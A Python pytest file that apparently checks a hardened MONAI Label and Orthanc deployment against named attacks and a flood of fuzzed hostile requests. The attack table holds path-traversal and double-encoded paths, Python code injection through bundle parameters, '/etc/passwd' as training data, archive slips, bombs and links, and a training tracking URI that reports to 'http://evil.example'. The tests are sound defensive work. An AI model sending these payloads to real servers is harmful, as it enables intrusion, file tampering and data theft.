"""What must not work, whoever tries it: each weakness of plain upstream, and a flood of hostile requests.

`.venv/bin/python -m pytest tests/stack/test_attacks.py --plain-upstream` runs the named attacks against MONAI Label
as it ships, where each of them gets through.
"""

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import requests
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.support.annotator import Annotator
from tests.support.attacks import (
    DATA,
    HOSTILE,
    TEXT,
    Operation,
    bomb,
    code,
    hostile_requests,
    image,
    linking_tar,
    operations,
    slipping_zip,
)
from tests.support.clone import Clone
from tests.support.pacs import Pacs
from tests.support.waiting import eventually

SERVER = "label-server"
REFUSED = {400, 401, 403, 404, 405, 413, 422, 429, 431}
CLICK = {"foreground": [[181, 285, 25]], "background": [], "result_extension": ".nii.gz"}
WHO = ("nobody", "annotator", "reviewer", "admin")


@dataclass
class Attacker:
    """Sends requests to the label server as one user or as nobody."""

    base: str
    token: str = ""
    sent: int = 0

    def __call__(self, method: str, path: str, **arguments: Any) -> requests.Response:
        """Send it as it is: no client may tidy the path up."""
        self.sent += 1
        headers = arguments.pop("headers", {}) | ({"Authorization": f"Bearer {self.token}"} if self.token else {})
        request = requests.Request(method, self.base, headers=headers, **arguments).prepare()
        request.url = f"{self.base}{path}"
        with requests.Session() as session:
            session.trust_env = False
            return session.send(request, timeout=120, allow_redirects=False)


@pytest.fixture
def plain(request: pytest.FixtureRequest) -> bool:
    return bool(request.config.getoption("--plain-upstream"))


@pytest.fixture(scope="module", params=WHO)
def attacker(request: pytest.FixtureRequest, running: Clone) -> Iterator[Attacker]:
    """Each kind of user in turn; on plain upstream, which knows none, anybody."""
    base = f"http://127.0.0.1:{running.environment['LABEL_SERVER_PORT']}"
    plain = request.config.getoption("--plain-upstream")
    if plain:
        if request.param != "nobody":
            pytest.skip("plain upstream knows no users")
        yield Attacker(base)
    elif request.param in ("nobody", "admin"):
        yield Attacker(base, running.environment["LABEL_SERVER_TOKEN"] if request.param == "admin" else "")
    else:
        added = running.done("users", "add", "mallory", "--role", request.param, "--json")
        yield Attacker(base, json.loads(added)["token"])
        running.done("users", "revoke", "mallory")


def files(stack: Clone) -> set[str]:
    """Every file that counts, with size and time; logs, locks and what is looked up anew are left out.

    So is upstream's copy of its logging configuration, which Python removes some time after the start.
    """
    left_out = ("*/logs/*", "*.lock", "*/.incoming/*", "*/datastore_v2.json", "*/leases.json", "*/mlflow.db*")
    left_out += ("/tmp/matplotlib/*", "/tmp/tmp*.json", "/workspace/audit/*.jsonl")  # it is recorded who tries
    but = " ".join(f"-not -path '{pattern}'" for pattern in left_out)
    find = f"find /opt/labelpod /workspace /tmp -type f {but} -printf '%p %s %T@\\n' 2>/dev/null"
    return set(stack.run_in(SERVER, "bash", "-c", find).splitlines())


def infer(send: Attacker, ct: str, **params: Any) -> requests.Response:
    return send("POST", f"/infer/deepgrow_2d?image={ct}", data={"params": json.dumps(CLICK | params)})


def session(send: Attacker, name: str, content: bytes) -> requests.Response:
    return send("PUT", "/session/?uncompress=true", files={"files": (name, content)})


# Name -> request. Each gets through on plain upstream: it answers 200, or does what it is asked and then fails.
ATTACKS: dict[str, Callable[[Attacker, str], requests.Response]] = {
    "write into the app": lambda send, ct: send(
        "PUT", "/datastore/image?image=../upstream/lib/pwned", files={"file": ("x.py", b"print(1)")}
    ),
    "replace an image": lambda send, ct: send(
        "PUT", f"/datastore/image?image={ct}", files={"file": ("x.nii.gz", image())}
    ),
    "write a label outside": lambda send, ct: send(
        "PUT", f"/datastore/label?image={ct}&tag=../../evil", files={"label": ("l.nii.gz", image())}
    ),
    "write a label outside, encoded twice": lambda send, ct: send(
        "PUT", f"/datastore/label?image={ct}&tag=%252e%252e%252fevil", files={"label": ("l.nii.gz", image())}
    ),
    "save an inference outside": lambda send, ct: infer(send, ct, save_label=True, label_tag="../../evil"),
    "read another file": lambda send, ct: (
        infer(send, ct, image=f"/workspace/cache/{ct}/nothing.nii.gz")
        if send.token
        else infer(send, ct, image="/workspace/planted.nii.gz")
    ),
    "name the session's file": lambda send, ct: infer(send, ct, session={"path": "/etc"}),
    "an expression for the bundle": lambda send, ct: infer(send, ct, highres="$__import__('os').getcwd()"),
    "a component for the bundle": lambda send, ct: infer(send, ct, network={"_target_": "os.getcwd"}),
    "a reference for the bundle": lambda send, ct: infer(send, ct, highres="@network"),
    "replace a model by code": lambda send, ct: send("PUT", "/model/deepgrow_2d", files={"file": ("m.pt", code())}),
    "drop the models": lambda send, ct: send("POST", "/reload"),
    "orthanc's own interface": lambda send, ct: send("GET", "/proxy/dicom/wado/..%2fsystem"),
    "orthanc's scripts": lambda send, ct: send("POST", "/proxy/dicom/wado/..%2ftools%2fnow", data=b""),
    "orthanc's instances": lambda send, ct: send("GET", "/proxy/dicom/qido/..%2finstances"),
    "a training with data of its own": lambda send, ct: send(
        "POST", "/train/deepgrow_2d", json={"train_ds": "/etc/passwd", "max_epochs": 1}
    ),
    "a training that tells another server": lambda send, ct: send(
        "POST", "/train/deepgrow_2d?enqueue=true", json={"tracking_uri": "http://evil.example", "max_epochs": 1}
    ),
    "a training into another folder": lambda send, ct: send(
        "POST", "/train/deepgrow_2d?enqueue=true", json={"name": "../../evil", "max_epochs": 1}
    ),
    "a training with code of its own": lambda send, ct: send(
        "POST", "/train/deepgrow_2d?enqueue=true", json={"bundle_path": "/workspace/cache", "max_epochs": 1}
    ),
    "an archive that slips out": lambda send, ct: session(send, "slip.zip", slipping_zip()),
    "an archive that unpacks a bomb": lambda send, ct: session(send, "bomb.zip", bomb()),
    "an archive with a link": lambda send, ct: session(send, "link.tar.gz", linking_tar()),
    "the files of the server's pages": lambda send, ct: send("GET", "/static/ohif/index.html"),
    "the interactive pages": lambda send, ct: send("GET", "/docs"),
}


@pytest.fixture(scope="module")
def target(running: Clone, request: pytest.FixtureRequest, data: Path) -> str:
    """A CT that the label server has in its cache."""
    environment, plain = running.environment, request.config.getoption("--plain-upstream")
    pacs = Pacs(f"http://127.0.0.1:{environment['ORTHANC_PORT']}", "labelpod", environment["ORTHANC_PASSWORD"])
    pacs.delete_everything()
    pacs.store(data / "chest-ct-mini")
    if plain:  # it would notice the images in two hours, or when it starts
        running.compose("restart", SERVER)
        running.compose("up", "--detach", "--wait")
    token = "" if plain else environment["LABEL_SERVER_TOKEN"]
    annotator = Annotator(f"http://127.0.0.1:{environment['LABEL_SERVER_PORT']}/{token}")
    ct: str = eventually(annotator.next_sample, 10, "the CT is offered")
    annotator.image(ct)
    return ct


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_refused(attacker: Attacker, running: Clone, target: str, plain: bool, name: str):
    if name == "read another file" and plain:
        find = "cp $(find /workspace/cache -name '*.nii.gz' | head -1) /workspace/planted.nii.gz"
        running.run_in(SERVER, "bash", "-c", find)
    before = files(running)
    answer = ATTACKS[name](attacker, target)
    assert answer.status_code in REFUSED, (answer.status_code, answer.text[:300])
    changed = sorted(files(running) ^ before)
    assert changed == []
    assert attacker.token or answer.status_code in (401, 429)


def test_no_other_origin_is_invited(attacker: Attacker):
    answer = attacker("GET", "/info/", headers={"Origin": "http://evil.example"})
    assert "access-control-allow-origin" not in answer.headers


@pytest.fixture
def untouched(running: Clone, plain: bool, target: str, attacker: Attacker) -> Iterator[None]:
    """Afterwards the app, the models, Orthanc's content and the process are what they were, and it still labels."""
    if plain:
        pytest.skip("the named attacks are enough to ruin plain upstream")
    token = running.environment["LABEL_SERVER_TOKEN"]
    annotator = Annotator(f"{attacker.base}/{token}")
    original = annotator.image(target)
    before, state = files(running), _state(running)
    yield
    changed = sorted(files(running) ^ before)
    assert changed == []
    assert _state(running) == state
    assert annotator.click("deepgrow_2d", target, [181, 285, 25]).shape == original.GetSize()[::-1]


def _state(stack: Clone) -> tuple[Any, ...]:
    processes = stack.run_in(SERVER, "bash", "-c", "ps -o lstart=,args= -p $(pgrep -f '^python -m label_server.web')")
    orthanc = requests.get(
        f"http://127.0.0.1:{stack.environment['ORTHANC_PORT']}/statistics",
        auth=("labelpod", stack.environment["ORTHANC_PASSWORD"]),
        timeout=30,
    ).json()
    return processes, {key: orthanc[key] for key in orthanc if key.startswith("Count")}


def test_a_flood_of_hostile_requests_changes_nothing(running: Clone, untouched: None, attacker: Attacker):
    document = Attacker(attacker.base, running.environment["LABEL_SERVER_TOKEN"])("GET", "/openapi.json").json()
    bad = []
    for operation in operations(document):
        # What an admin may do is no attack: with these names alone it would be done.
        for value in HOSTILE:
            for path, arguments in hostile_requests(operation, value):
                answer = attacker(operation.method, path, **arguments)
                if answer.status_code >= 500 or "root:x:0" in answer.text or "class LabelServerApp" in answer.text:
                    bad.append((operation.method, path[:120], answer.status_code, answer.text[:120]))
    print(f"{attacker.sent} hostile requests")
    assert not bad, bad[:10]
    assert attacker.sent > 300


def test_made_up_requests_change_nothing(running: Clone, untouched: None, attacker: Attacker):
    document = Attacker(attacker.base, running.environment["LABEL_SERVER_TOKEN"])("GET", "/openapi.json").json()
    known = [each for each in operations(document) if each.method != "DELETE" and not each.path.startswith("/train")]

    @settings(max_examples=80, deadline=None, suppress_health_check=list(HealthCheck), database=None)
    @given(st.sampled_from(known), TEXT, DATA)
    def check(operation: Operation, value: str, nested: Any) -> None:
        for path, arguments in hostile_requests(operation, value):
            if "data" in arguments:
                arguments["data"] = {"params": json.dumps(nested), "info": json.dumps(nested)}
            elif "json" in arguments:
                arguments["json"] = nested
            answer = attacker(operation.method, path, **arguments)
            assert answer.status_code < 500, (operation.method, path, answer.text[:200])

    check()
    assert attacker.sent > 75
